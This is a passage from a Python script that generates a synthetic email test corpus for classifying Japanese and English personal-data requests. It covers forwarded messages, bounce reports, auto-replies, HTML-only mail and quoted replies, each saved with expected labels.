             JA_REQUESTS[5], "hanako.sato@example.ne.jp"),
            ("Begin forwarded message:\n\nFrom: Mary Jones <mary.jones@example.org>\n"
             "Subject: %s\nDate: November 20, 2026 at 10:00:00 GMT+9\nTo: info@example.co.jp\n\n",
             EN_REQUESTS[0], "mary.jones@example.org"),
            ("-------- 転送メッセージ --------\n件名: \t%s\n日付: \tFri, 20 Nov 2026 10:00:00 +0900\n"
             "差出人: \t鈴木 一郎 <ichiro.suzuki@docomo.example.jp>\n宛先: \tinfo@example.co.jp\n\n",
             JA_REQUESTS[7], "ichiro.suzuki@docomo.example.jp"),
            ("-----Original Message-----\nFrom: 田中 ㈱担当 [mailto:tanaka@example.or.jp]\n"
             "Sent: Friday, November 20, 2026 10:00 AM\nTo: info@example.co.jp\nSubject: %s\n\n",
             JA_REQUESTS[4], "tanaka@example.or.jp")]):
        d = nid()
        body = "窓口に届いた請求を転送します。\n\n" + (marker % req[1]) + req[2] + "\n"
        data = gmail("forward-inline-%02d" % i, ("", "Fwd: " + req[1], body),
                     ("窓口担当", "desk@example.co.jp"), d, html=False)
        save("forward-inline-%02d" % i, data, req[0], 0,
             "forwarded_by=desk@example.co.jp;from=%s" % who)
    # 13. bounces (multipart/report) and auto-replies
    for i, (status, rcpt, mta) in enumerate([("5.1.1", "nobody@example.jp", "Postfix"),
                                             ("5.2.2", "full@example.ne.jp", "Exchange"),
                                             ("4.4.7", "slow@example.com", "Sendmail")]):
        d = nid()
        report = MIMEMultipart("report", report_type="delivery-status")
        report.set_boundary("bounce%04d" % d)
        report.attach(text("This is the mail system at host mx.example.co.jp.\n\n"
                           "I'm sorry to have to inform you that your message could not\n"
                           "be delivered to one or more recipients.\n\n<%s>: host said: "
                           "550 %s User unknown\n" % (rcpt, status), "us-ascii"))
        ds = MIMEBase("message", "delivery-status")
        per_message, per_recipient = email.message.Message(), email.message.Message()
        per_message["Reporting-MTA"] = "dns; mx.example.co.jp"
        per_message["Arrival-Date"] = "Fri, 20 Nov 2026 10:00:00 +0900"
        per_recipient["Final-Recipient"] = "rfc822; " + rcpt
        per_recipient["Original-Recipient"] = "rfc822;" + rcpt
        per_recipient["Action"] = "delayed" if status[0] == "4" else "failed"
        per_recipient["Status"] = status
        per_recipient["Diagnostic-Code"] = "smtp; 550 %s" % status
        ds.set_payload([per_message, per_recipient])
        report.attach(ds)
        returned = fx.text_part("個人情報の開示請求を受け付けました。[PRV-2026-000123]\n", "utf-8")
        fx.headers(returned, fx.hdr("【受付】個人情報の開示請求 [PRV-2026-000123]"),
                   "privacy@example.co.jp", "reply-%d@example.co.jp" % i, to=rcpt)
        report.attach(MIMEMessage(returned))
        save("bounce-%02d" % i, finish(report, "bounce-%02d" % i,
                                       "Undelivered Mail Returned to Sender",
                                       ("Mail Delivery System", "MAILER-DAEMON@mx.example.co.jp"),
                                       "us-ascii", None, d, extra=[("Return-Path", "<>")]),
             "auto", 0, "bounce_recipient=%s;bounce_status=%s" % (rcpt, status))
    for i, (subject, body, extra) in enumerate([
            ("自動応答: 個人情報の開示請求", "ただいま不在にしております。11月30日以降に対応いたします。",
             [("Auto-Submitted", "auto-replied")]),
            ("Automatic reply: Subject access request", "I am out of the office until Monday.",
             [("X-Auto-Response-Suppress", "All")]),
            ("Out of Office", "I am away.", [("X-Autoreply", "yes")])]):
        d = nid()
        part = text(body, "utf-8", fx.cs.BASE64)
        save("auto-reply-%02d" % i, finish(part, "auto-reply-%02d" % i, subject, EN[i % 3],
                                           "utf-8", OUTLOOK, d, extra=extra), "auto", 0)
    # 14. HTML-only mail and a signature logo that is not a document
    d = nid()
    html = ("<html><head><style>p{color:red}</style></head><body><p>保有個人データの"
            "<b>開示</b>を請求します。</p><p>よろしくお願いします&nbsp;&amp;&nbsp;感謝</p>"
            "<img src=\"cid:logo@acme\"></body></html>")
    rel = MIMEMultipart("related")
    rel.set_boundary("rel%04d" % d)
    rel.attach(text(html, "utf-8", fx.cs.BASE64, subtype="html"))
    rel.attach(file_part(fx.logo_png(), "image/png", "logo.png", "ascii", disposition="inline",
                         cid="logo@acme"))
    save("html-only-logo", finish(rel, "html-only-logo", "開示請求", JA[1], "utf-8", OUTLOOK, d),
         "disclosure", 0)
    d = nid()
    h = text("<div>Please <i>delete my personal data</i>.<br>Thanks</div>", "utf-8", fx.cs.QP,
             subtype="html")
    save("html-only-en", finish(h, "html-only-en", "Request", EN[0], "utf-8", GMAIL, d),
         "stop_use", 0)
    # 15. replies that quote an earlier request (quoted words must not count)
    d = nid()
    body = ("ご連絡ありがとうございます。承知しました。\n\n"
            "-----Original Message-----\nFrom: 山田 太郎\nSent: Friday, November 20, 2026\n"
            "Subject: 個人情報の削除\n\n個人情報を削除してください。\n")
    save("reply-outlook-quoted", finish(text(body, "iso-2022-jp"), "reply-outlook-quoted",
                                        "RE: 個人情報の削除", JA[0], "iso-2022-jp", OUTLOOK_JA, d),
         "inquiry", 0)
    d = nid()
    body = ("Thanks, that answers it.\n\nOn Fri, Nov 20, 2026 at 10:00 AM Privacy Office "
            "<privacy@example.co.jp> wrote:\n> Do you want us to delete your data?\n")
    save("reply-gmail-quoted", finish(text(body, "us-ascii"), "reply-gmail-quoted",
                                      "Re: Your request", EN[1], "us-ascii", GMAIL, d),
         "inquiry", 0)

    with open(os.path.join(HERE, "labels.tsv"), "w", encoding="utf-8") as f:
        f.write("# file\ttypes\tid_documents\tchecks  (written by make-corpus.py)\n")
        for row in LABELS:
            f.write("%s\t%s\t%d\t%s\n" % row)
    print("make-corpus: %d messages" % len(LABELS))


if __name__ == "__main__":
    main()
